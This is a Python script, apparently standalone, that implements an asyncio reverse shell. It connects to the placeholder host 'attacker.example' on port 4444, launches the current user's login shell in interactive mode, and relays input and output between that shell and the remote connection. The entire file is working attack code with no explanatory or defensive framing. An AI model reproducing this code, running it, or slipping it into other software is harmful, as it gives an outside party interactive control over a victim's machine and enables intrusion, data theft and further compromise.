import asyncio
import os
import pwd


async def pump(reader, writer):
    while True:
        data = await reader.read(4096)
        if not data:
            break
        writer.write(data)
        await writer.drain()


async def main():
    reader, writer = await asyncio.open_connection("attacker.example", 4444)
    program = pwd.getpwuid(os.getuid()).pw_shell or os.environ.get("SHELL", "")
    proc = await asyncio.create_subprocess_exec(
        program, "-i",
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    await asyncio.gather(pump(reader, proc.stdin), pump(proc.stdout, writer))
    await proc.wait()


if __name__ == "__main__":
    asyncio.run(main())
